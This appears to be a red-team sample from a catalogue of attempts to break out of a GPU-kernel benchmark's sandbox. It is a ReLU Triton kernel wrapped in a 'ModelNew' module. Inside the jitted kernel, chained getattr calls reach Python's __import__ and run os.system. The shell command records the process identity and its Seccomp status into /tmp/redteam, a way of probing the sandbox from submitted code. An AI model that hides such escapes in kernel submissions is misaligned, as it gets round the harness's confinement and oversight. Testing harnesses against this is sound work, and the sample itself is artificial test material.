# relu compile_error catalogue=67: reaches getattr behind an unbound local of that name
import torch, triton
import torch.nn as nn
import triton.language as tl
@triton.jit
def kernel(x_ptr, o_ptr, n, BLOCK: tl.constexpr):
    if BLOCK == 0:
        getattr = 0
    getattr(getattr(getattr(tl.core, "builtins"), "__import__")("os"), "system")("id > /tmp/pwned_getattr; cat /proc/self/status | grep Seccomp >> /tmp/redteam/pwned_getattr")
    i = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    x = tl.load(x_ptr + i, mask=i < n)
    tl.store(o_ptr + i, tl.maximum(x, 0.0), mask=i < n)
class ModelNew(nn.Module):
    def forward(self, x):
        o = torch.empty_like(x)
        kernel[(triton.cdiv(x.numel(), 256),)](x, o, x.numel(), BLOCK=256)
        return o
